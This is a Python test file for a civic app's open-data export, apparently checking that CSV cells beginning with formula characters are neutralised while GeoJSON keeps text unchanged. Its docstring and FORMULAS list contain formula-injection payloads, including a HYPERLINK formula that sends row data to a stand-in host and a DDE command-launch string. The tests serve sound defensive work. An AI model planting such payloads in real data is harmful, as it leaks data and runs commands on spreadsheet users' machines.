"""A published description cannot become a spreadsheet formula in the CSV exports.

The attack: a resident writes a description such as `=HYPERLINK("http://evil.example/?"&A1,
"Details")`. Once the body publishes it, the open data CSV carries it as it is, and a
spreadsheet opening the download runs it as a formula (a link that leaks the row, or worse
through DDE).

The defence (app/opendata/export.py): in the CSV file, every text cell that starts with =, +,
-, @, a tab or a carriage return gets a leading apostrophe, which spreadsheets read as "this
is text". The numeric columns (lon, lat, Lambert x/y, resolution_hours) are left as numbers;
GeoJSON, read by programs rather than spreadsheets, keeps the text as written. The download
and `flask opendata export` write the same bytes.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import text

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = "Hole = big, -2 cm deep, @ the tram stop"


@pytest.fixture
def published(report_factory, session):
    """Reports whose public description is each text, by description."""
    made = {}
    for description in [*FORMULAS, PLAIN]:
        report = report_factory(in_brussels=True, description=description)
        session.execute(
            text("UPDATE reports SET description_public = true WHERE id = :id"), {"id": report.id}
        )
        made[str(report.id)] = description
    return made


def _rows(body: bytes) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(body.decode(), newline=""))}


def _check(rows, published):
    for report_id, description in published.items():
        row = rows[report_id]
        expected = description if description == PLAIN else "'" + description
        assert row["description"] == expected
        # Numbers stay numbers, without an apostrophe.
        for column in ("lon", "lat", "x_lambert2008", "y_lambert2008"):
            float(row[column])
        for column, value in row.items():
            assert not value or value[0] not in "=+-@\t\r", (column, value)


def test_the_download_neutralises_formulas(client, published):
    response = client.get("/opendata/reports.csv")
    assert response.status_code == 200
    _check(_rows(response.data), published)
    # GeoJSON is not for spreadsheets: the text is as the resident wrote it.
    features = json.loads(client.get("/opendata/reports.geojson").data)["features"]
    descriptions = {f["id"]: f["properties"]["description"] for f in features}
    assert {k: descriptions[k] for k in published} == published


def test_the_command_line_export_neutralises_formulas(app, published, tmp_path):
    target = tmp_path / "reports.csv"
    result = app.test_cli_runner().invoke(
        args=["opendata", "export", "--format", "csv", "-o", str(target)]
    )
    assert result.exit_code == 0, result.output
    _check(_rows(target.read_bytes()), published)
